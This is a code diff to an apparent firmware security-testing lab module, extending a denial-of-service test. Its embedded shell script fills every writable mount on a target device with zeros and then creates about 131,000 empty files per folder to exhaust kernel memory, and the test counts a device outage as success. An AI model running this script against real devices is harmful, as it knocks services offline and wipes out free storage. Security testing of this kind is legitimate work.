@@ -11,8 +11,10 @@ from firmward.lab.target import Powered, Target, Witness
 
 BROKER = 8883
 PORTS = (HTTPS, BROKER)
-FILLS = 90.0
-"""Seconds for a file system that takes half of the memory, on a busy machine too."""
+FILLS = 180.0
+"""Seconds in which all of them are full, on a busy machine too."""
+FILES = 1 << 17
+"""Empty files in one folder, of which a tmpfs without nr_inodes= takes one for two pages of the memory."""
 SETTLES = 15.0
 """Seconds in which the kernel ends what it ends for want of memory."""
 SECONDS = 10.0
@@ -24,13 +26,18 @@ while read -r _ place kind _; do
 	for folder in "$place" "$place"/*; do
 		[ -d "$folder" ] && [ -w "$folder" ] || continue
 		echo "$folder"
-		dd if=/dev/zero of="$folder/{name}" bs=64k >/dev/null 2>&1 &
+		(
+			dd if=/dev/zero of="$folder/{name}" bs=64k
+			n=0
+			while [ $n -lt {files} ] && true >"$folder/{name}-$n"; do n=$((n + 1)); done
+		) >/dev/null 2>&1 &
 	done
 done </proc/mounts
 wait
 echo filled
 """
-"""No rights are needed: what is written is what the service itself may write."""
+"""With zeros, and then with empty files, which the kernel keeps in memory of its own. No rights are needed: what is
+written is what the service itself may write."""
 
 
 def run(target: Target) -> Result:
@@ -40,7 +47,7 @@ def run(target: Target) -> Result:
         if silent(forwards):
             raise Unseen(f"ports {_listed(PORTS)} do not all answer even before the attack")
         resets = powered.resets
-        said = service.run(CODE.format(name=f"filled-{target.challenge.first}"), FILLS)
+        said = service.run(CODE.format(name=f"filled-{target.challenge.first}", files=FILES), FILLS)
         target.note(Witness.ATTACKER, f"writes until no more is taken: {_places(said)}")
         if _is_down(powered, forwards, resets):
             return Result.SUCCEEDED
